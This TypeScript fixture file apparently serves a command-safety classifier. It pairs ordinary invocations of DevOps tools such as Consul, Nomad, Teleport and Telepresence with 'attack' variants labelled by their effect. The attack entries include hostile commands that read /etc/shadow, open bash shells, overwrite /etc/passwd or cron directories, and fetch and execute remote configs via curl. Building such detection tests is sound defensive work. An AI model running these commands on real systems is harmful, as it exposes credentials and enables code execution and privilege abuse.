import type { ExampleTable } from './example.ts'

export const clusters2: ExampleTable = {
  'kustomize build': {
    use: 'kustomize build overlays/prod -o out.yaml → write out.yaml',
    attack: 'kustomize build . --enable-helm --helm-command=/tmp/x → run /tmp/x',
  },
  'okteto exec': {
    use: 'okteto exec -- cat notes.txt → read notes.txt',
    attack: 'okteto exec -- cat /etc/shadow → read /etc/shadow',
  },
  'opa eval': {
    use: 'opa eval -d policy.rego data.app.allow → read policy.rego',
    attack: 'opa eval -i /etc/kubernetes/admin.conf input → read /etc/kubernetes/admin.conf',
  },
  'opa run': {
    use: 'opa run policy.rego → read policy.rego',
    attack:
      'curl -so opa.yaml https://example.org/x && opa run -s -c opa.yaml → execute ‹https://example.org/x›',
  },
  skaffold: {
    use: 'skaffold run -f skaffold.yaml → read skaffold.yaml',
    attack:
      'curl -so s.yaml https://example.org/x && skaffold run -f s.yaml → execute ‹https://example.org/x›',
  },
  'telepresence connect': {
    use: 'telepresence connect -- cat notes.txt → read notes.txt',
    attack: 'telepresence connect -- bash → shell bash',
  },
  'telepresence intercept': {
    use: 'telepresence intercept web -p 8080 -- cat notes.txt → read notes.txt',
    attack: [
      'telepresence intercept web -p 8080 -- bash → shell bash',
      'telepresence intercept web -p 8080 -e /etc/passwd → write /etc/passwd',
    ],
  },
  'tilt up': {
    use: 'tilt up -f Tiltfile.ci → read Tiltfile.ci; listen 10350',
    attack:
      'curl -so Tiltfile https://example.org/x && tilt up -f Tiltfile → execute ‹https://example.org/x›; listen 10350',
  },
  'vendir sync': {
    use: 'vendir sync -f vendir.yml --lock-file vendir.lock.yml → read vendir.yml; write vendir.lock.yml',
    attack:
      'curl -so v.yml https://example.org/x && vendir sync -f v.yml → execute ‹https://example.org/x›',
  },
  'boundary connect': {
    use: 'boundary connect -target-id=ttcp_1 -exec=psql → nothing',
    attack: 'boundary connect -target-id=ttcp_1 -exec=/bin/sh → shell sh',
  },
  'consul acl': {
    use: 'consul acl policy list → nothing',
    attack: 'consul acl bootstrap → read secret://consul',
  },
  'consul agent': {
    use: 'consul agent -config-file agent.hcl → read agent.hcl',
    attack: [
      'consul agent -enable-script-checks -config-file agent.hcl → privilege consul agent; read agent.hcl',
      'curl -so a.hcl https://example.org/x && consul agent -config-file a.hcl → execute ‹https://example.org/x›',
    ],
  },
  'consul exec': {
    use: 'consul exec cat notes.txt → read notes.txt',
    attack: 'consul exec cat /etc/shadow → read /etc/shadow',
  },
  'consul kv export': {
    attack: 'consul kv export app/ → read secret://app/',
  },
  'consul kv put': {
    use: 'consul kv put app/name hello → send consul kv put',
    attack: 'consul kv put app/name @/etc/shadow → read /etc/shadow; send consul kv put',
  },
  'consul lock': {
    use: 'consul lock app cat notes.txt → read notes.txt',
    attack: [
      'consul lock app cat /etc/shadow → read /etc/shadow',
      'consul lock app bash → shell bash',
    ],
  },
  'consul watch': {
    use: 'consul watch -type=key -key=app cat notes.txt → read notes.txt',
    attack: [
      'consul watch -type=key -key=app cat /etc/shadow → read /etc/shadow',
      'consul watch -type=key -key=app bash → shell bash',
    ],
  },
  'consul-template': {
    use: 'consul-template -config template.hcl → read template.hcl',
    attack: [
      "consul-template -exec='cat /etc/shadow' → read /etc/shadow",
      'curl -so t.hcl https://example.org/x && consul-template -config t.hcl → execute ‹https://example.org/x›',
    ],
  },
  envconsul: {
    use: 'envconsul -prefix app cat notes.txt → read notes.txt',
    attack: [
      'envconsul -prefix app cat /etc/shadow → read /etc/shadow',
      'envconsul -prefix app bash → shell bash',
    ],
  },
  'mesos-execute': {
    use: "mesos-execute --master=10.0.0.1:5050 --name=hello --command='cat notes.txt' → send 10.0.0.1:5050; read notes.txt",
    attack:
      "mesos-execute --master=10.0.0.1:5050 --name=s --command='cat /etc/shadow' → read /etc/shadow; send 10.0.0.1:5050",
  },
  'nomad agent': {
    use: 'nomad agent -config=nomad.hcl → read nomad.hcl; listen 4646',
    attack: [
      'curl -so n.hcl https://example.org/x && nomad agent -config=n.hcl → execute ‹https://example.org/x›; listen 4646',
      'nomad agent -dev -plugin-dir=/tmp → load /tmp; listen 4646',
    ],
  },
  'nomad alloc exec': {
    use: 'nomad alloc exec -task=web 8a2b3c4d cat notes.txt → read notes.txt',
    attack: 'nomad alloc exec -task=web 8a2b3c4d cat /etc/shadow → read /etc/shadow',
  },
  'nomad job': {
    use: 'nomad job run web.nomad → read web.nomad',
    attack:
      'curl -so j.nomad https://example.org/x && nomad job run j.nomad → execute ‹https://example.org/x›',
  },
  'nomad operator': {
    use: 'nomad operator debug -output out → write out',
    attack: 'nomad operator debug -output /etc/cron.d → write /etc/cron.d',
  },
  'nomad run': {
    use: 'nomad run web.nomad → read web.nomad',
    attack:
      'curl -so j.nomad https://example.org/x && nomad run j.nomad → execute ‹https://example.org/x›',
  },
  serf: {
    use: 'serf agent -config-file=serf.json → read serf.json',
    attack: 'serf agent -event-handler=/tmp/x → run /tmp/x',
  },
  'teleport start': {
    use: 'teleport start -c teleport.yaml → read teleport.yaml; listen 3022',
    attack:
      'curl -so t.yaml https://example.org/x && teleport start -c t.yaml → execute ‹https://example.org/x›; listen 3022',
  },
  'tsh kube exec': {
    use: 'tsh kube exec web cat notes.txt → read notes.txt',
    attack: 'tsh kube exec web cat /etc/shadow → read /etc/shadow',
  },
  'tsh login': {
    use: 'tsh login --proxy=teleport.example.org -o identity.pem → write identity.pem',
    attack: 'tsh login --proxy=teleport.example.org -o /etc/passwd → write /etc/passwd',
  },
  'tsh scp': {
    use: 'tsh scp notes.txt ann@web:/tmp/ → read notes.txt; send ann@web:/tmp/',
    attack: 'tsh scp /etc/shadow ann@web:/tmp/ → read /etc/shadow; send ann@web:/tmp/',
  },
  'tsh ssh': {
    use: 'tsh ssh ann@web cat notes.txt → read notes.txt; send ann@web',
    attack: 'tsh ssh root@web cat /etc/shadow → read /etc/shadow; send root@web',
  },
  'consul snapshot restore': {
    use: 'consul snapshot restore backup.snap → use backup.snap',
  },
  'consul snapshot save': {
    use: 'consul snapshot save backup.snap → write backup.snap',
    attack: 'consul snapshot save /etc/passwd → write /etc/passwd',
  },
}
